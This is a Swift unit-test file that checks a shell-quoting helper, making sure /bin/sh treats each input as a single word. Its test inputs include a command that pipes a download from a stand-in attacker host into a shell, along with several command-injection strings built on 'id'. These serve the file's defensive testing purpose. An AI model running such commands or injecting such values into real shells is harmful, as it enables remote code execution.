import System
import Testing

@testable import CLI

struct ShellQuotingTests {
    @Test(arguments: [
        "db", "a b", "", "x; curl evil.test | sh", "'; id; '", "it's", "$(id)", "`id`", "a\nb", "-n", "*",
        "~",
        "'\u{301}; id; '\u{301}", "é", "\\", "\"", "#x", "a=b",
    ])
    func aShellReadsOneWord(text: String) async throws {
        let result = try await ChildProcess(
            executable: "/bin/sh", arguments: ["-c", "printf '%s|' \(text.shellQuoted) end"],
            environment: [:],
            isInteractive: false, outputLimit: 10_000, deadline: .seconds(20)
        ).run()
        #expect(CLITests.text(result.output) == "\(text)|end|")
    }

    @Test(arguments: ["db", "payments/db.yaml", "vault-transit:transit/k", "--all"])
    func whatNeedsNoQuotesHasNone(text: String) { #expect(text.shellQuoted == text) }
}
